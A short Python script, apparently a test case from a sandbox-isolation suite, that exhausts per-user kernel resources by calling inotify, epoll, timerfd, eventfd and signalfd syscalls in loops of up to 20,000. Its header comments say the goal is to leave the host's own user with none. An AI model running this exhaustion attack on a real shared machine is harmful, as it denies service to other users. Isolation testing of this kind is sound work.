# tries: to use up what the kernel counts for each user over all of the machine: watches, locked memory, queues, timers
# escape: the host's own user finds none left
# outcome: exited memory signalled
# control: none: outside this would take them from the machine
import ctypes
import time

from attack import note, syscall

note("watches")
EVENTFD2, INOTIFY_INIT1, TIMERFD_CREATE, SIGNALFD4, EPOLL_CREATE1 = 290, 294, 283, 289, 291
EMPTY = ctypes.create_string_buffer(8)
CALLS = {"inotify": (INOTIFY_INIT1, 0), "epoll": (EPOLL_CREATE1, 0), "timer": (TIMERFD_CREATE, 1, 0),
         "event": (EVENTFD2, 0, 0), "signal": (SIGNALFD4, -1, EMPTY, 8, 0)}  # fmt: skip
for name, call in CALLS.items():
    count = 0
    try:
        while count < 20_000:
            syscall(*call)
            count += 1
    except OSError as error:
        note(f"{count} of {name}: {error}")
time.sleep(1)
